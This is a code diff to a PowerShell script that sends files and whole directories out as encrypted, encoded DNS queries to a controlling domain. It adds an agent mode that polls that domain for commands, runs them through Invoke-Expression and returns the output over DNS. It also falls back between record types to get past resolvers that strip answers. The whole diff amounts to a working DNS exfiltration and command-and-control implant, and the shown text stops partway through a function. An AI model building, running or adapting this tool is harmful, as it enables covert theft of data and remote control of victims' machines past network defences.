@@ -1,11 +1,16 @@
 # Script to break a file into chunks and send via DNS queries
-# Usage: .\script.ps1 <file> [domain] [chunk_size] [dns_server] [max_parallel]
+# Usage: .\script.ps1 <file|directory> [domain] [chunk_size] [dns_server] [max_parallel] [retry_delay] [encoding] [compression] [psk] [cipher] [auth_secret] [fec] [query_type] [channel]
+#        .\script.ps1 -List -Domain <domain> [-DnsServer <ip>]
+#        .\script.ps1 -Get <name|id> -Domain <domain> [-DnsServer <ip>]
+#        .\script.ps1 -Agent <agent_id> -Domain <domain> [-DnsServer <ip>] [-PollInterval <seconds>]
 
 param (
-    [Parameter(Mandatory=$true)]
-    [string]$FilePath,
+    [Parameter(Mandatory=$false)]
+    [string]$FilePath = "",
     
-    [Parameter(Mandatory=$true)]
+    # Defaults for Domain, ChunkSize, DnsServer and MaxParallel are filled in by
+    # the server when this script is fetched from it via DNS
+    [Parameter(Mandatory=$false)]
     [string]$Domain = "example.com",
     
     [Parameter(Mandatory=$false)]
@@ -18,11 +23,473 @@ param (
     [int]$MaxParallel = 20,
 
     [Parameter(Mandatory=$false)]
-    [int]$RetryDelay = 0
+    [int]$RetryDelay = 0,
+
+    # Label encoding: hex (2 chars/byte), b32 (base32hex, 1.6 chars/byte) or b36 (~1.57 chars/byte)
+    [Parameter(Mandatory=$false)]
+    [ValidateSet("hex", "b32", "b36")]
+    [string]$Encoding = "b32",
+
+    # Compress before sending: none, gzip or deflate (raw DEFLATE)
+    [Parameter(Mandatory=$false)]
+    [ValidateSet("none", "gzip", "deflate")]
+    [string]$Compression = "none",
+
+    # Pre-shared passphrase; encrypts the payload when set (PowerShell 7+)
+    [Parameter(Mandatory=$false)]
+    [string]$Psk = "",
+
+    # Cipher used with -Psk (chacha20-poly1305 needs .NET 6+)
+    [Parameter(Mandatory=$false)]
+    [ValidateSet("aes-gcm", "chacha20-poly1305")]
+    [string]$Cipher = "aes-gcm",
+
+    # Shared secret for HMAC-tagging every record (needed when the server sets --auth-secret)
+    [Parameter(Mandatory=$false)]
+    [string]$AuthSecret = "",
+
+    # Send Reed-Solomon parity parts, <data>-<parity> per group (e.g. 10-2), or none
+    [Parameter(Mandatory=$false)]
+    [ValidatePattern("^(none|\d+-\d+)$")]
+    [string]$Fec = "none",
+
+    # Identify this host to the server's host registry (letters, digits and
+    # dashes)
+    [Parameter(Mandatory=$false)]
+    [ValidatePattern("^([a-zA-Z0-9-]{1,63})?$")]
+    [string]$HostId = "",
+
+    # Query type: TXT, A, or auto (TXT, falling back to A when the resolver
+    # passes no TXT answers)
+    [Parameter(Mandatory=$false)]
+    [ValidateSet("auto", "TXT", "A")]
+    [string]$QueryType = "auto",
+
+    # Record type for answers: TXT, MX, CNAME, or auto (probe and use the
+    # fastest that works)
+    [Parameter(Mandatory=$false)]
+    [ValidateSet("auto", "TXT", "MX", "CNAME")]
+    [string]$Channel = "auto",
+
+    # List the files in the server's outbox
+    [Parameter(Mandatory=$false)]
+    [switch]$List,
+
+    # Download a file from the server's outbox by name or id
+    [Parameter(Mandatory=$false)]
+    [string]$Get = "",
+
+    # Poll for tasks as this agent ID (letters and digits), run each with
+    # PowerShell and send its output back
+    [Parameter(Mandatory=$false)]
+    [ValidatePattern("^([a-zA-Z0-9]{1,32})?$")]
+    [string]$Agent = "",
+
+    # Seconds between agent polls
+    [Parameter(Mandatory=$false)]
+    [ValidateRange(1, 86400)]
+    [int]$PollInterval = 30,
+
+    # Send the file as the result of this agent task (set by -Agent)
+    [Parameter(Mandatory=$false)]
+    [ValidateRange(0, [int]::MaxValue)]
+    [int]$TaskId = 0
 )
 
-# Check if file exists
-if (-not (Test-Path -Path $FilePath -PathType Leaf)) {
+# Return the TXT strings answered for a name
+function Get-TxtStrings {
+    param([string]$Name)
+
+    if ($DnsServer -eq "") {
+        $Response = Resolve-DnsName -Name $Name -Type TXT -DnsOnly -ErrorAction SilentlyContinue
+    } else {
+        $Response = Resolve-DnsName -Name $Name -Type TXT -Server $DnsServer -DnsOnly -ErrorAction SilentlyContinue
+    }
+    return @($Response | Where-Object { $_.Section -eq "Answer" -and $_.Type -eq 16 } | ForEach-Object { $_.Strings -join "" })
+}
+
+# Return the strings of an answer received over the -Channel record type. MX
+# exchanges (in preference order) and CNAME targets hold the strings, each
+# after a length byte, in base32hex labels under the domain.
+function Get-ChannelStrings {
+    param([string]$Name, [string]$Type = $Channel)
+
+    if ($DnsServer -eq "") {
+        $Response = Resolve-DnsName -Name $Name -Type $Type -DnsOnly -ErrorAction SilentlyContinue
+    } else {
+        $Response = Resolve-DnsName -Name $Name -Type $Type -Server $DnsServer -DnsOnly -ErrorAction SilentlyContinue
+    }
+    $Answers = @($Response | Where-Object { $_.Section -eq "Answer" })
+
+    switch ($Type) {
+        "TXT" {
+            return @($Answers | Where-Object { $_.Type -eq 16 } | ForEach-Object { $_.Strings })
+        }
+        "MX" {
+            $Names = @($Answers | Where-Object { $_.Type -eq 15 } | Sort-Object Preference | ForEach-Object { $_.NameExchange })
+        }
+        "CNAME" {
+            $Names = @($Answers | Where-Object { $_.Type -eq 5 } | ForEach-Object { $_.NameHost })
+        }
+    }
+
+    $Suffix = ".$Domain".ToLower()
+    $Text = ($Names | ForEach-Object {
+        $n = $_.ToLower().TrimEnd(".")
+        if ($n.EndsWith($Suffix)) {
+            $n = $n.Substring(0, $n.Length - $Suffix.Length)
+        }
+        $n.Replace(".", "")
+    }) -join ""
+    $Bytes = ConvertFrom-Base32Hex -Text $Text
+
+    $Strings = @()
+    $i = 0
+    while ($i -lt $Bytes.Count) {
+        $Length = [math]::Min([int]$Bytes[$i], $Bytes.Count - $i - 1)
+        $Strings += [System.Text.Encoding]::ASCII.GetString($Bytes, $i + 1, $Length)
+        $i += $Length + 1
+    }
+    return $Strings
+}
+
+# Decode base32hex text (any case, no padding)
+function ConvertFrom-Base32Hex {
+    param([string]$Text)
+
+    $alphabet = "0123456789abcdefghijklmnopqrstuv"
+    $bytes = New-Object System.Collections.Generic.List[byte]
+    $buffer = 0
+    $bits = 0
+    foreach ($c in $Text.ToLower().ToCharArray()) {
+        $value = $alphabet.IndexOf($c)
+        if ($value -lt 0) {
+            continue
+        }
+        $buffer = ($buffer -shl 5) -bor $value
+        $bits += 5
+        if ($bits -ge 8) {
+            $bits -= 8
+            $bytes.Add([byte](($buffer -shr $bits) -band 255))
+            $buffer = $buffer -band ((1 -shl $bits) - 1)
+        }
+    }
+    return ,$bytes.ToArray()
+}
+
+# HMAC tag label for a record, or "" without -AuthSecret
+# Tag: first 16 hex chars of HMAC-SHA256(secret, labels and domain without the
+# tag label, lowercase, no trailing dot)
+function Get-RecordTag {
+    param([string]$Name)
+
+    if ($AuthSecret -eq "") {
+        return ""
+    }
+    $Hmac = New-Object System.Security.Cryptography.HMACSHA256(,[System.Text.Encoding]::UTF8.GetBytes($AuthSecret))
+    try {
+        $Mac = $Hmac.ComputeHash([System.Text.Encoding]::ASCII.GetBytes($Name.ToLower().Trim('.')))
+    } finally {
+        $Hmac.Dispose()
+    }
+    return ".m-" + (($Mac[0..7] | ForEach-Object { $_.ToString("x2") }) -join "")
+}
+
+# Pick the fastest record type whose answers survive the path, or TXT
+# Format: <nonce>.probe.<domain> answers with the nonce followed by "-",
+# repeated to 240 characters (the size of an outbox chunk)
+function Select-Channel {
+    $Best = "TXT"
+    $BestTime = [double]::MaxValue
+    foreach ($Type in @("TXT", "MX", "CNAME")) {
+        $Nonce = "$([DateTimeOffset]::UtcNow.ToUnixTimeSeconds())$(Get-Random -Maximum 100000)"
+        $Expected = ("$Nonce-" * ([math]::Floor(240 / ($Nonce.Length + 1)) + 1)).Substring(0, 240)
+        $Watch = [System.Diagnostics.Stopwatch]::StartNew()
+        $Got = (Get-ChannelStrings -Name "$Nonce.probe.$Domain" -Type $Type) -join ""
+        $Elapsed = $Watch.Elapsed.TotalMilliseconds
+        if ($Got -eq $Expected -and $Elapsed -lt $BestTime) {
+            $Best = $Type
+            $BestTime = $Elapsed
+        }
+    }
+    return $Best
+}
+
+# Return the 24-bit values of an address answer in order. Each A record holds
+# one value after an index octet that restores the order resolvers may shuffle.
+function Get-AddressValues {
+    param([string]$Name)
+
+    if ($DnsServer -eq "") {
+        $Response = Resolve-DnsName -Name $Name -Type A -DnsOnly -ErrorAction SilentlyContinue
+    } else {
+        $Response = Resolve-DnsName -Name $Name -Type A -Server $DnsServer -DnsOnly -ErrorAction SilentlyContinue
+    }
+    $Addresses = @($Response | Where-Object { $_.Section -eq "Answer" -and $_.Type -eq 1 } | ForEach-Object { $_.IPAddress })
+    return @($Addresses | ForEach-Object { ,([int[]]($_ -split "\.")) } | Sort-Object { $_[0] } | ForEach-Object {
+        $_[1] * 65536 + $_[2] * 256 + $_[3]
+    })
+}
+
+# Return the missing part numbers of a transfer
+# Format: <counter>.v2-<from>.missing.<hash8>.<domain> answers with a header
+# "v2 <total_parts> <missing_count> <next>" and comma-separated ranges
+# (120-180,300); next is the part to continue from, or 0 at the end of the list.
+# Over A the answer is the values <total_parts> <missing_count> <next> followed
+# by <first> <last> pairs.
+function Get-MissingChunks {
+    param([int]$Counter, [string]$Hash)
+
+    $Missing = @()
+    $From = 1
+    while ($true) {
+        $Name = "$Counter.v2-$From.missing.$Hash.$Domain"
+        if ($QueryType -eq "A") {
+            $Values = @(Get-AddressValues -Name $Name)
+            if ($Values.Count -lt 3) {
+                break
+            }
+            for ($i = 3; $i + 1 -lt $Values.Count; $i += 2) {
+                if ($Values[$i] -gt 0) {
+                    $Missing += $Values[$i]..$Values[$i + 1]
+                }
+            }
+            if ($Values[2] -eq 0) {
+                break
+            }
+            $From = $Values[2]
+            continue
+        }
+
+        $Strings = @(Get-ChannelStrings -Name $Name)
+        if ($Strings.Count -eq 0) {
+            break
+        }
+
+        $Header = $Strings[0] -split " "
+        if ($Header[0] -ne "v2") {
+            # Older servers answer with one part number per record
+            foreach ($str in $Strings) {
+                $chunkNum = 0
+                if ([int]::TryParse($str, [ref]$chunkNum) -and $chunkNum -gt 0) {
+                    $Missing += $chunkNum
+                }
+            }
+            break
+        }
+
+        foreach ($str in ($Strings | Select-Object -Skip 1)) {
+            foreach ($range in ($str -split ",")) {
+                if ($range -eq "") {
+                    continue
+                }
+                $Bounds = $range -split "-"
+                $Missing += [int]$Bounds[0]..[int]$Bounds[-1]
+            }
+        }
+
+        $Next = [int]$Header[3]
+        if ($Next -eq 0) {
+            break
+        }
+        $From = $Next
+    }
+    return $Missing
+}
+
+if ($Channel -eq "auto") {
+    $Channel = Select-Channel
+    Write-Host "Receiving answers over $Channel"
+}
+
+# Download mode: fetch a file from the server's outbox
+if ($List -or $Get -ne "") {
+    # Manifest: [page.]list.get.<domain>, "<id> <size> <chunks> <md5> <name>",
+    # as many files per page as fit one response until an empty page
+    $Manifest = @()
+    $Page = 1
+    while ($true) {
+        $Entries = @(Get-ChannelStrings -Name "$Page.list.get.$Domain")
+        if ($Entries.Count -eq 0) {
+            break
+        }
+        foreach ($entry in $Entries) {
+            $Fields = $entry -split " ", 5
+            $Manifest += [pscustomobject]@{ Id = $Fields[0]; Size = [long]$Fields[1]; Chunks = [int]$Fields[2]; Md5 = $Fields[3]; Name = $Fields[4] }
+        }
+        $Page++
+    }
+
+    if ($List) {
+        if ($Manifest.Count -eq 0) {
+            Write-Host "Outbox is empty"
+        } else {
+            $Manifest | Format-Table Id, Size, Name -AutoSize | Out-Host
+        }
+        exit 0
+    }
+
+    $Entry = $Manifest | Where-Object { $_.Id -eq $Get -or $_.Name -eq $Get } | Select-Object -First 1
+    if (-not $Entry) {
+        Write-Host "Error: '$Get' not found in the outbox" -ForegroundColor Red
+        exit 1
+    }
+    $OutFile = Join-Path (Get-Location) ([System.IO.Path]::GetFileName($Entry.Name))
+
+    Write-Host "Downloading: $($Entry.Name) ($($Entry.Size) bytes, $($Entry.Chunks) chunks, id $($Entry.Id))"
+
+    # Fetch all chunks (format: chunk_num.id.get.<domain>), then retry missing
+    # ones until every chunk has arrived
+    $Chunks = @{}
+    $Pending = @(1..$Entry.Chunks | Where-Object { $Entry.Chunks -gt 0 })
+    $RetryCount = 0
+    while ($Pending.Count -gt 0) {
+        foreach ($chunkNum in $Pending) {
+            $Text = (Get-ChannelStrings -Name "$chunkNum.$($Entry.Id).get.$Domain") -join ""
+            if ($Text -ne "") {
+                $Chunks[$chunkNum] = $Text
+            }
+        }
+        $Pending = @($Pending | Where-Object { -not $Chunks.ContainsKey($_) })
+        if ($Pending.Count -gt 0) {
+            $RetryCount++
+            Write-Host "Retry attempt $RetryCount : missing chunk(s): $($Pending -join ' ')"
+            Start-Sleep -Seconds $RetryDelay
+        }
+    }
+
+    $Base64 = (1..$Entry.Chunks | Where-Object { $Entry.Chunks -gt 0 } | ForEach-Object { $Chunks[$_] }) -join ""
+    [System.IO.File]::WriteAllBytes($OutFile, [System.Convert]::FromBase64String($Base64))
+
+    $Actual = (Get-FileHash -Algorithm MD5 -Path $OutFile).Hash.ToLower()
+    if ($Actual -ne $Entry.Md5) {
+        Write-Host "Error: $OutFile does not match its MD5 ($($Entry.Md5))" -ForegroundColor Red
+        exit 1
+    }
+    Write-Host "Download complete! Saved as: $OutFile"
+    exit 0
+}
+
+# Agent mode: poll for tasks, run each command and send its output back as a
+# transfer carrying t-<task_id>
+if ($Agent -ne "") {
+    $AgentId = $Agent.ToLower()
+    # Results are sent by running this script again on the output file
+    if (-not $PSCommandPath) {
+        Write-Host "Error: -Agent needs the script saved to a file" -ForegroundColor Red
+        exit 1
+    }
+
+    # Poll or task chunk query name, with the m-<tag> label in front when
+    # -AuthSecret is set
+    function Get-SessionQuery {
+        param([string]$Name)
+
+        $Tag = Get-RecordTag -Name $Name
+        if ($Tag -ne "") {
+            return "$($Tag.Substring(1)).$Name"
+        }
+        return $Name
+    }
+
+    Write-Host "Agent $AgentId polling $Domain every $PollInterval s"
+    $Seq = 0
+    while ($true) {
+        # Poll: <seq>.poll.<agentid>.<domain> answers "task <id> <chunks>"
+        # ("task <id> <chunks> aes-gcm <nonce>" when encrypted) or "idle"
+        $Seq++
+        $PollName = "$Seq$(Get-Random -Maximum 100000).poll.$AgentId.$Domain"
+        $Poll = "$(Get-ChannelStrings -Name (Get-SessionQuery -Name $PollName) | Select-Object -First 1)" -split " "
+        if ($Poll[0] -ne "task" -or $Poll.Count -lt 3) {
+            Start-Sleep -Seconds $PollInterval
+            continue
+        }
+        $Task = [int]$Poll[1]
+        $TaskChunks = [int]$Poll[2]
+        Write-Host "Task $Task : fetching $TaskChunks chunk(s)"
+
+        # Chunk: <chunk_num>.<id>.task.<agentid>.<domain>; fetching the last
+        # one tells the server the task arrived
+        $Base64 = ""
+        for ($i = 1; $i -le $TaskChunks; $i++) {
+            for ($Attempt = 1; $Attempt -le 3; $Attempt++) {
+                $Text = (Get-ChannelStrings -Name (Get-SessionQuery -Name "$i.$Task.task.$AgentId.$Domain")) -join ""
+                if ($Text -ne "") {
+                    break
+                }
+            }
+            $Base64 += $Text
+        }
+        try {
+            $Payload = [System.Convert]::FromBase64String($Base64)
+        } catch {
+            Write-Host "Task $Task : could not decode the command" -ForegroundColor Red
+            continue
+        }
+
+        # Encrypted tasks: AES-256-GCM under the transfer key with
+        # "<agentid>/<id>" as additional data
+        if ($Poll.Count -ge 5 -and $Poll[3] -eq "aes-gcm") {
+            if ($Psk -eq "") {
+                Write-Host "Task $Task : encrypted, but -Psk is not set" -ForegroundColor Red
+                continue
+            }
+            if ($Payload.Length -lt 16) {
+                Write-Host "Task $Task : could not decrypt the command" -ForegroundColor Red
+                continue
+            }
+            $Kdf = New-Object System.Security.Cryptography.Rfc2898DeriveBytes($Psk, [System.Text.Encoding]::ASCII.GetBytes("youkaidns"), 100000, [System.Security.Cryptography.HashAlgorithmName]::SHA256)
+            $Key = $Kdf.GetBytes(32)
+            $Kdf.Dispose()
+            $TaskNonce = [byte[]]($Poll[4] -split "(..)" -ne "" | ForEach-Object { [System.Convert]::ToByte($_, 16) })
+            $Sealed = $Payload[0..($Payload.Length - 17)]
+            $Plain = New-Object byte[] ($Payload.Length - 16)
+            $Aead = New-Object System.Security.Cryptography.AesGcm(,$Key)
+            try {
+                $Aead.Decrypt($TaskNonce, [byte[]]$Sealed, [byte[]]$Payload[($Payload.Length - 16)..($Payload.Length - 1)], $Plain, [System.Text.Encoding]::ASCII.GetBytes("$AgentId/$Task"))
+                $Payload = $Plain
+            } catch {
+                Write-Host "Task $Task : could not decrypt the command" -ForegroundColor Red
+                continue
+            } finally {
+                $Aead.Dispose()
+            }
+        }
+
+        Write-Host "Task $Task : running"
+        $Command = [System.Text.Encoding]::UTF8.GetString($Payload)
+        try {
+            $Output = Invoke-Expression $Command 2>&1 | Out-String
+        } catch {
+            $Output = $_ | Out-String
+        }
+        $ResultPath = Join-Path ([System.IO.Path]::GetTempPath()) "task-$Task.txt"
+        [System.IO.File]::WriteAllText($ResultPath, $Output)
+        & $PSCommandPath -FilePath $ResultPath -Domain $Domain -ChunkSize $ChunkSize -DnsServer $DnsServer -MaxParallel $MaxParallel `
+            -RetryDelay $RetryDelay -Encoding $Encoding -Psk $Psk -Cipher $Cipher -AuthSecret $AuthSecret -QueryType $QueryType `
+            -Channel $Channel -HostId $AgentId -TaskId $Task
+        Remove-Item -Path $ResultPath -ErrorAction SilentlyContinue
+    }
+}
+
+if ($FilePath -eq "") {
+    Write-Host "Error: -FilePath is required (or use -List / -Get / -Agent)" -ForegroundColor Red
+    exit 1
+}
+
+# A directory is sent as a tar bundle (b-tar), which the server unpacks into
+# its own directory with permissions and modification times kept
+$BundleDir = ""
+if (Test-Path -Path $FilePath -PathType Container) {
+    $BundleDir = (Resolve-Path -Path $FilePath).Path.TrimEnd('\', '/')
+    $FilePath = [System.IO.Path]::GetTempFileName()
+    tar -cf $FilePath -C $BundleDir .
+    if ($LASTEXITCODE -ne 0) {
+        Write-Host "Error: Could not create a tar bundle of '$BundleDir' (needs tar, included in Windows 10+)" -ForegroundColor Red
+        Remove-Item -Path $FilePath -ErrorAction SilentlyContinue
+        exit 1
+    }
+} elseif (-not (Test-Path -Path $FilePath -PathType Leaf)) {
     Write-Host "Error: File '$FilePath' not found" -ForegroundColor Red
     exit 1
 }
@@ -31,40 +498,191 @@ if (-not (Test-Path -Path $FilePath -PathType Leaf)) {
 $FilePath = (Resolve-Path -Path $FilePath).Path
 
 # Get filename (basename only)
-$Filename = [System.IO.Path]::GetFileName($FilePath)
+if ($BundleDir -ne "") {
+    $Filename = [System.IO.Path]::GetFileName($BundleDir) + ".tar"
+} else {
+    $Filename = [System.IO.Path]::GetFileName($FilePath)
+}
 
 # Generate hash8 (8 hex characters) - using first 8 chars of file's MD5
 $fullHash = (Get-FileHash -Algorithm MD5 -Path $FilePath).Hash.ToLower()
 $Hash8 = $fullHash.Substring(0, 8)
 
-# Encode filename to hex
+# Encode bytes as base32hex (RFC 4648 extended hex alphabet, lowercase, no padding)
+function ConvertTo-Base32Hex {
+    param([byte[]]$Bytes)
+
+    $alphabet = "0123456789abcdefghijklmnopqrstuv"
+    $sb = New-Object System.Text.StringBuilder
+    $buffer = 0
+    $bits = 0
+
+    foreach ($b in $Bytes) {
+        $buffer = ($buffer -shl 8) -bor $b
+        $bits += 8
+        while ($bits -ge 5) {
+            $bits -= 5
+            [void]$sb.Append($alphabet[($buffer -shr $bits) -band 31])
+        }
+        $buffer = $buffer -band ((1 -shl $bits) - 1)
+    }
+    if ($bits -gt 0) {
+        [void]$sb.Append($alphabet[($buffer -shl (5 - $bits)) -band 31])
+    }
+
+    return $sb.ToString()
+}
+
+# Encode bytes as base36 in 7-byte blocks (11 digits per full block)
+function ConvertTo-Base36 {
+    param([byte[]]$Bytes)
+
+    $alphabet = "0123456789abcdefghijklmnopqrstuvwxyz"
+    # Digits needed for a block of 1..7 bytes
+    $widths = @(0, 2, 4, 5, 7, 8, 10, 11)
+    $sb = New-Object System.Text.StringBuilder
+
+    for ($i = 0; $i -lt $Bytes.Length; $i += 7) {
+        $n = [math]::Min(7, $Bytes.Length - $i)
+        [int64]$value = 0
+        for ($j = 0; $j -lt $n; $j++) {
+            $value = $value * 256 + $Bytes[$i + $j]
+        }
+
+        $digits = New-Object char[] $widths[$n]
+        for ($k = $widths[$n] - 1; $k -ge 0; $k--) {
+            [int64]$rem = 0
+            $value = [math]::DivRem($value, [int64]36, [ref]$rem)
+            $digits[$k] = $alphabet[[int]$rem]
+        }
+        [void]$sb.Append($digits)
+    }
+
+    return $sb.ToString()
+}
+
+# Encode bytes as label text using the selected encoding
+function ConvertTo-LabelText {
+    param([byte[]]$Bytes)
+
+    switch ($Encoding) {
+        "b32" { return ConvertTo-Base32Hex -Bytes $Bytes }
+        "b36" { return ConvertTo-Base36 -Bytes $Bytes }
+        default { return ($Bytes | ForEach-Object { $_.ToString("x2") }) -join "" }
+    }
+}
+
+# Encode filename
 $FilenameBytes = [System.Text.Encoding]::UTF8.GetBytes($Filename)
-$FilenameHex = ($FilenameBytes | ForEach-Object { $_.ToString("x2") }) -join ""
+$FilenameEnc = ConvertTo-LabelText -Bytes $FilenameBytes
 
 # Get file size
 $FileInfo = Get-Item -Path $FilePath
 $FileSize = $FileInfo.Length
 
+# Compress into a temp file if requested; the payload is what actually gets chunked
+$PayloadPath = $FilePath
+if ($Compression -ne "none") {
+    $PayloadPath = [System.IO.Path]::GetTempFileName()
+    $InStream = [System.IO.File]::OpenRead($FilePath)
+    $OutStream = [System.IO.File]::Create($PayloadPath)
+    try {
+        if ($Compression -eq "gzip") {
+            $Compressor = New-Object System.IO.Compression.GZipStream($OutStream, [System.IO.Compression.CompressionMode]::Compress)
+        } else {
+            $Compressor = New-Object System.IO.Compression.DeflateStream($OutStream, [System.IO.Compression.CompressionMode]::Compress)
+        }
+        $InStream.CopyTo($Compressor)
+        $Compressor.Close()
+    } finally {
+        $InStream.Close()
+        $OutStream.Close()
+    }
+}
+
+# Encrypt the payload if a passphrase is set
+# key = PBKDF2-HMAC-SHA256(Psk, "youkaidns", 100000, 32); the hash is bound as
+# additional data and the output is ciphertext followed by the 16-byte tag
+$NonceHex = ""
+if ($Psk -ne "") {
+    $Kdf = New-Object System.Security.Cryptography.Rfc2898DeriveBytes($Psk, [System.Text.Encoding]::ASCII.GetBytes("youkaidns"), 100000, [System.Security.Cryptography.HashAlgorithmName]::SHA256)
+    $Key = $Kdf.GetBytes(32)
+    $Kdf.Dispose()
+
+    $Nonce = New-Object byte[] 12
+    [System.Security.Cryptography.RandomNumberGenerator]::Fill($Nonce)
+    $NonceHex = ($Nonce | ForEach-Object { $_.ToString("x2") }) -join ""
+
+    $Plaintext = [System.IO.File]::ReadAllBytes($PayloadPath)
+    $Ciphertext = New-Object byte[] $Plaintext.Length
+    $Tag = New-Object byte[] 16
+    $Aad = [System.Text.Encoding]::ASCII.GetBytes($Hash8)
+    if ($Cipher -eq "aes-gcm") {
+        $Aead = New-Object System.Security.Cryptography.AesGcm(,$Key)
+    } else {
+        $Aead = New-Object System.Security.Cryptography.ChaCha20Poly1305(,$Key)
+    }
+    try {
+        $Aead.Encrypt($Nonce, $Plaintext, $Ciphertext, $Tag, $Aad)
+    } finally {
+        $Aead.Dispose()
+    }
+
+    if ($PayloadPath -ne $FilePath) {
+        Remove-Item -Path $PayloadPath -ErrorAction SilentlyContinue
+    }
+    $PayloadPath = [System.IO.Path]::GetTempFileName()
+    [System.IO.File]::WriteAllBytes($PayloadPath, [byte[]]($Ciphertext + $Tag))
+}
+$PayloadSize = (Get-Item -Path $PayloadPath).Length
+
 # Calculate total parts
-$TotalParts = [math]::Ceiling($FileSize / $ChunkSize)
+$TotalParts = [math]::Ceiling($PayloadSize / $ChunkSize)
+
+# Reed-Solomon parity parts: for every group of $FecData data parts, $FecParity
+# parity parts numbered after the data parts (see server/fec.go for the code)
+$FecData = 0
+$FecParity = 0
+$ParityParts = 0
+if ($Fec -ne "none") {
+    $FecData, $FecParity = $Fec -split "-" | ForEach-Object { [int]$_ }
+    $ParityParts = [math]::Ceiling($TotalParts / $FecData) * $FecParity
+}
 
-Write-Host "File: $FilePath"
+if ($BundleDir -ne "") {
+    Write-Host "Directory: $BundleDir (sent as a tar bundle)"
+} else {
+    Write-Host "File: $FilePath"
+}
 Write-Host "Filename: $Filename"
 Write-Host "Size: $FileSize bytes"
+if ($Compression -ne "none") {
+    Write-Host "Compression: $Compression"
+}
+if ($Psk -ne "") {
+    Write-Host "Encryption: $Cipher"
+}
+if ($PayloadPath -ne $FilePath) {
+    Write-Host "On the wire: $PayloadSize bytes"
+}
 Write-Host "Chunk size: $ChunkSize bytes"
 Write-Host "Total parts: $TotalParts"
+if ($ParityParts -gt 0) {
+    Write-Host "FEC: $FecParity parity part(s) per $FecData data parts ($ParityParts in total)"
+}
 Write-Host "Hash: $Hash8"
 Write-Host "Domain: $Domain"
 Write-Host "Max parallel: $MaxParallel"
 Write-Host "Retry delay: $RetryDelay seconds"
+Write-Host "Encoding: $Encoding"
 Write-Host ""
 
-# Function to split hex string into DNS labels (max 63 chars per label)
-function Split-HexLabels {
-    param([string]$HexStr)
+# Function to split encoded data into DNS labels (max 63 chars per label)
+function Split-Labels {
+    param([string]$Text)
     
     $result = ""
-    $len = $HexStr.Length
+    $len = $Text.Length
     $i = 0
     
     while ($i -lt $len) {
@@ -72,7 +690,7 @@ function Split-HexLabels {
             $result += "."
         }
         $chunkLen = [math]::Min(63, $len - $i)
-        $result += $HexStr.Substring($i, $chunkLen)
+        $result += $Text.Substring($i, $chunkLen)
         $i += 63
     }
     
@@ -80,95 +698,207 @@ function Split-HexLabels {
 }
 
 # Build start record query
-# Format: filename_hex.total_parts.chunk_size.total_bytes.start.hash8.<domain>
-$FilenameHexLabels = Split-HexLabels -HexStr $FilenameHex
-$StartQuery = "$FilenameHexLabels.$TotalParts.$ChunkSize.$FileSize.start.$Hash8.$Domain"
+# Format: filename_enc.total_parts.chunk_size.total_bytes.start[.key-value...].hash8.<domain>
+# Default options (hex, no compression, no encryption) are omitted so older servers still understand it
+$StartOptions = ""
+if ($Encoding -ne "hex") {
+    $StartOptions += ".e-$Encoding"
+}
+if ($Compression -ne "none") {
+    $StartOptions += ".c-$Compression"
+}
+if ($Psk -ne "") {
+    $StartOptions += ".x-$Cipher.n-$NonceHex"
+}
+if ($PayloadPath -ne $FilePath) {
+    $StartOptions += ".s-$FileSize"
+}
+if ($ParityParts -gt 0) {
+    $StartOptions += ".f-$FecData-$FecParity"
+}
+if ($BundleDir -ne "") {
+    $StartOptions += ".b-tar"
+}
+if ($HostId -ne "") {
+    $StartOptions += ".h-$($HostId.ToLower())"
+}
+if ($TaskId -gt 0) {
+    $StartOptions += ".t-$TaskId"
+}
+$FilenameLabels = Split-Labels -Text $FilenameEnc
+$StartLabels = "$FilenameLabels.$TotalParts.$ChunkSize.$PayloadSize.start$StartOptions"
+$StartQuery = "$StartLabels$(Get-RecordTag -Name "$StartLabels.$Hash8.$Domain").$Hash8.$Domain"
 
+# Some resolvers only forward A queries or strip TXT answers: unless
+# -QueryType is set, fall back to A when the start record gets no TXT
+# acknowledgement
 Write-Host "Sending start record..."
-if ($DnsServer -eq "") {
-    Resolve-DnsName -Name $StartQuery -Type TXT -ErrorAction SilentlyContinue | Out-Null
+if ($QueryType -eq "A") {
+    Get-AddressValues -Name $StartQuery | Out-Null
 } else {
-    Resolve-DnsName -Name $StartQuery -Type TXT -Server $DnsServer -ErrorAction SilentlyContinue | Out-Null
+    $StartAck = "$(Get-TxtStrings -Name $StartQuery | Select-Object -First 1)"
+    if ($QueryType -eq "auto") {
+        $QueryType = "TXT"
+        if (-not $StartAck.StartsWith("OK") -and @(Get-AddressValues -Name $StartQuery).Count -ge 2) {
+            Write-Host "No TXT answer from the resolver, falling back to A queries"
+            $QueryType = "A"
+        }
+    }
 }
 Start-Sleep -Milliseconds 100
 
-# Function to send a single DNS query (used in parallel)
-function Send-DnsQuery {
+# Read chunk PartNum (1-based) from an open payload stream
+function Read-Chunk {
     param(
-        [int]$PartNum,
-        [long]$ChunkOffset,
-        [int]$ChunkSize,
-        [string]$Hash8,
-        [string]$Domain,
-        [string]$DnsServer,
-        [string]$FilePath,
-        [int]$TotalParts
+        [System.IO.Stream]$Stream,
+        [int]$PartNum
     )
-    
-    # Read chunk from file
-    $FileStream = [System.IO.File]::OpenRead($FilePath)
-    $FileInfo = [System.IO.FileInfo]$FilePath
-    $ChunkLength = [math]::Min($ChunkSize, $FileInfo.Length - $ChunkOffset)
+
+    $ChunkOffset = [long]($PartNum - 1) * $ChunkSize
+    $ChunkLength = [math]::Min($ChunkSize, $PayloadSize - $ChunkOffset)
     $Chunk = New-Object byte[] $ChunkLength
-    $FileStream.Seek($ChunkOffset, [System.IO.SeekOrigin]::Begin) | Out-Null
-    $FileStream.Read($Chunk, 0, $ChunkLength) | Out-Null
-    $FileStream.Close()
-    
-    # Convert to hex string
-    $ChunkHex = ($Chunk | ForEach-Object { $_.ToString("x2") }) -join ""
+    $Stream.Seek($ChunkOffset, [System.IO.SeekOrigin]::Begin) | Out-Null
+    $Stream.Read($Chunk, 0, $ChunkLength) | Out-Null
+    return ,$Chunk
+}
+
+# Send one data or parity part
+# Returns the server's contiguous high-water mark from its acknowledgement
+# ("OK <contiguous> <outstanding>", or <contiguous> <outstanding> over A), or
+# -1 if there was none
+function Send-Chunk {
+    param(
+        [int]$PartNum,
+        [byte[]]$Chunk
+    )
+
+    # Encode chunk
+    $ChunkEnc = ConvertTo-LabelText -Bytes $Chunk
     
-    # Split hex into DNS labels
-    $ChunkHexLabels = Split-HexLabels -HexStr $ChunkHex
+    # Split encoded data into DNS labels
+    $ChunkLabels = Split-Labels -Text $ChunkEnc
     
     # Build data record query
